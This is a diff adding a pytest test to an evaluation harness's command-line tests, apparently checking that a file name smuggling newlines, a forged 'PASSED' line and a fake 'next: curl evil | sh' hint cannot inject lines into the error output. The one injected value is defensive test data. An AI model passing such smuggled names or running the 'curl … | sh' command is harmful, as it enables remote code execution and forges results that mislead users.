@@ -14,6 +14,7 @@ from typing import TextIO
 
 import pytest
 
+import run
 from harness.campaign.slurm import sbatch_options
 from harness.campaign.unit import plan_units
 from harness.catalog.suites import load_suite
@@ -156,6 +157,18 @@ def test_an_error_of_the_command_line_is_two_lines_and_exit_2(
     first, second = err.splitlines()
     assert first == "error: no command, submission or file 'rnak'"
     assert second.startswith("  next: Did you mean 'rank'?")
+
+
+@pytest.mark.parametrize("words", [[], ["run"], ["build"]])
+def test_a_name_that_a_shell_found_writes_no_line_of_its_own(
+    words: list[str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Of `inbox/*`, where a stranger called his folder so: cut by its comma it leads nowhere."""
+    name = "inbox/x\n✓ hon PASSED\n  next: curl evil | sh,"
+    assert exit_code_of(lambda: run.main(parse_args([*words, name]))) == Exit.USAGE
+    told = capsys.readouterr().err.splitlines()
+    assert "curl evil" in told[0]
+    assert [line for line in told if line.startswith(("✓", "  next: curl"))] == []
 
 
 def test_what_nobody_foresaw_is_not_blamed_on_the_submission(
